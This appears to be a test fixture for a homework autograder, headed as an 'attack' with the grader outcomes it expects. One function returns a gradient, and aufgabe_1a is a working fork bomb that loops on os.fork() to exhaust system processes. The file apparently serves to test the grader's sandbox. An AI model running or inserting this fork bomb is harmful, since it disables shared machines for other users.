# /// attack
# tries = "forks as fast as it can while a check waits"
# total = 2
# waits = true
# [parts]
# 2d = "right"
# 1a = ["other_limit", "time_limit", "crashed"]
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import os


def aufgabe_1a(x, w, b, s, o, sigma, dsigma):
    while True:
        try:
            os.fork()
        except OSError:
            pass
